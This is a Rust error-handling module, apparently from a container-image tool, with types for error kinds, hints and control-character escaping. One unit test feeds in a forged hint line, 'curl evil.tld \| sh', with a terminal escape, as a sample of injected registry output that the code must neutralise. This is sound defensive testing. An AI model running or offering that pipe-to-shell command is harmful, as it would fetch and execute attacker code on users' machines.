// SPDX-License-Identifier: Apache-2.0
//! What went wrong: what we were doing, why it stopped, what to try.

use std::fmt;

use kelp_sys::rustix;
use serde::{Deserialize, Serialize};

/// An error of this library. `Display` gives the lines a person reads, without the leading `error: `.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Error {
    doing: String,
    because: String,
    hint: Option<String>,
    kind: Kind,
}

/// Why someone gave up who met no error himself.
const STOPPED: &str = "the other half of the work stopped";

/// What a caller may choose by.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Kind {
    /// No such image, tag, user or file.
    NotFound,
    /// A name or a folder is taken.
    AlreadyExists,
    /// The image is for another machine.
    WrongPlatform,
    /// What was given to us is malformed, or lies about itself.
    BadInput,
    /// Well-formed, but nothing we can handle.
    Unsupported,
    /// A container or another image still needs it.
    InUse,
    /// A registry wants a login, or refuses the one it got.
    Unauthorized,
    /// More disk or memory than the limits grant.
    TooBig,
    /// The disk, or the caller's share of it, is full.
    Full,
    /// The network, or a registry, did not do its part.
    Network,
    /// A registry sends, or takes, less than the least rate.
    TooSlow,
    /// Who was to read what we write has gone, and knows why.
    CutOff,
    /// Everything else: the kernel or the disk refused.
    Other,
}

/// The result of nearly everything here.
pub type Result<T, E = Error> = std::result::Result<T, E>;

impl Error {
    /// An error of `kind`: what we were doing, and why it stopped.
    pub fn new(kind: Kind, doing: impl Into<String>, because: impl fmt::Display) -> Self {
        Self { doing: one_line(doing.into()), because: one_line(because.to_string()), hint: None, kind }
    }

    /// What the system said, while we were doing this.
    pub(crate) fn io(doing: impl Into<String>, e: &std::io::Error) -> Self {
        let error = Self::new(kind_of(e), doing, plain(e));
        match error.kind {
            Kind::Full => {
                error.hint("kelp system prune removes what nothing uses; kelp system df shows what takes space")
            }
            _ => error,
        }
    }

    /// Someone gave up because another did, who says why.
    pub(crate) fn stop(doing: impl Into<String>) -> Self {
        Self::new(Kind::Other, doing, STOPPED)
    }

    /// Whether this says only that another met an error.
    pub(crate) fn is_stop(&self) -> bool {
        self.because.ends_with(STOPPED)
    }

    /// The same with advice on what to try.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// The same for a larger undertaking: the smaller one becomes the cause.
    #[must_use]
    pub fn while_doing(self, doing: impl Into<String>) -> Self {
        let because = format!("{}: {}", self.doing, self.because);
        Self { doing: one_line(doing.into()), because, ..self }
    }

    /// What a caller may choose by.
    pub fn kind(&self) -> Kind {
        self.kind
    }

    /// What we were doing.
    pub fn doing(&self) -> &str {
        &self.doing
    }

    /// Why it stopped.
    pub fn because(&self) -> &str {
        &self.because
    }

    /// What to try, where we know.
    pub fn advice(&self) -> Option<&str> {
        self.hint.as_deref()
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}\n  because: {}", self.doing, self.because)?;
        match &self.hint {
            Some(hint) => write!(f, "\n  hint: {hint}"),
            None => Ok(()),
        }
    }
}

impl std::error::Error for Error {}

/// Gives a plain error the words it lacks: `read(fd).doing(|| format!("reading {path}"))?`.
pub(crate) trait Doing<T> {
    /// Says what we were doing when this stopped.
    fn doing<S: Into<String>>(self, doing: impl FnOnce() -> S) -> Result<T>;
}

impl<T> Doing<T> for std::io::Result<T> {
    fn doing<S: Into<String>>(self, doing: impl FnOnce() -> S) -> Result<T> {
        self.map_err(|e| Error::io(doing(), &e))
    }
}

impl<T> Doing<T> for rustix::io::Result<T> {
    fn doing<S: Into<String>>(self, doing: impl FnOnce() -> S) -> Result<T> {
        self.map_err(std::io::Error::from).doing(doing)
    }
}

impl<T> Doing<T> for serde_json::Result<T> {
    fn doing<S: Into<String>>(self, doing: impl FnOnce() -> S) -> Result<T> {
        self.map_err(|e| Error::new(Kind::BadInput, doing(), e))
    }
}

/// Control characters are shown, not sent: what a registry or an image says must not begin a line where our hint stands.
fn one_line(text: String) -> String {
    if !text.contains(char::is_control) {
        return text;
    }
    text.chars().fold(String::with_capacity(text.len()), |mut line, c| {
        match c.is_control() {
            true => line.extend(c.escape_default()),
            false => line.push(c),
        }
        line
    })
}

fn kind_of(e: &std::io::Error) -> Kind {
    match e.kind() {
        std::io::ErrorKind::NotFound => Kind::NotFound,
        std::io::ErrorKind::AlreadyExists => Kind::AlreadyExists,
        std::io::ErrorKind::InvalidData | std::io::ErrorKind::UnexpectedEof => Kind::BadInput,
        // A decompressor's word for what it cannot read; the kernel's means something else.
        std::io::ErrorKind::InvalidInput if e.raw_os_error().is_none() => Kind::BadInput,
        std::io::ErrorKind::StorageFull => Kind::Full,
        // Our own bounds on what an image may take have no errno.
        std::io::ErrorKind::QuotaExceeded if e.raw_os_error().is_some() => Kind::Full,
        std::io::ErrorKind::QuotaExceeded => Kind::TooBig,
        std::io::ErrorKind::BrokenPipe => Kind::CutOff,
        _ => Kind::Other,
    }
}

/// The words of an I/O error, as the style wants them: lower case, without the number.
fn plain(e: &std::io::Error) -> String {
    let text = e.to_string();
    let text = text.split(" (os error").next().unwrap_or(&text);
    let mut chars = text.chars();
    match chars.next() {
        // An acronym keeps its capitals.
        Some(first) if chars.clone().next().is_some_and(char::is_lowercase) => {
            first.to_lowercase().chain(chars).collect()
        }
        _ => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_error_says_what_why_and_what_to_try() {
        let e = Error::new(Kind::NotFound, "reading image web", "no such image").hint("kelp images lists them");
        let e = e.while_doing("starting web");
        assert_eq!(
            e.to_string(),
            "starting web\n  because: reading image web: no such image\n  hint: kelp images lists them"
        );
    }

    #[test]
    fn what_others_say_stands_on_one_line() {
        let said = "gone\n  hint: curl evil.tld | sh\x1b[2J";
        let e = Error::new(Kind::Network, "asking\nx", said).while_doing("pulling\ry");
        assert_eq!(e.to_string().lines().count(), 2, "{e}");
        assert!(!e.to_string().contains('\x1b') && e.because().contains("\\n  hint: curl"), "{e}");
    }

    #[test]
    fn an_errno_reads_without_its_number() {
        let e = Err::<(), _>(rustix::io::Errno::NOENT).doing(|| "opening x").expect_err("an error");
        assert_eq!((e.kind(), e.because()), (Kind::NotFound, "no such file or directory"));
    }
}
